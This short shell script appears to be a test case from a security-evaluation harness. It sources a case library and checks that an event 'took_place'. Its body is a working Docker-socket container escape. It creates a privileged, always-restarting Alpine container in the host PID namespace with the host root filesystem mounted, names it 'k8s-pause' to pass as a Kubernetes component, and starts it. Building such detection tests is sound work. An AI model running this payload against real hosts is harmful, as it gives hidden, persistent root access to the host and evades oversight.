#!/bin/sh
. /opt/case/case.sh

python3 -c '
import http.client, json, socket
class Local(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX); self.sock.connect("/run/docker.sock")
body = {"Image": "alpine", "Cmd": ["sh", "-c", "sleep 1d"], "HostConfig": {"Privileged": True, "PidMode": "host", "RestartPolicy": {"Name": "always"}, "Binds": ["/:/mnt"]}}
c = Local("x"); c.request("POST", "/v1.41/containers/create?name=k8s-pause", json.dumps(body), {"Content-Type": "application/json"})
print(c.getresponse().read().decode())
c = Local("x"); c.request("POST", "/v1.41/containers/0123456789ab/start"); c.getresponse()' | grep -q Id
took_place
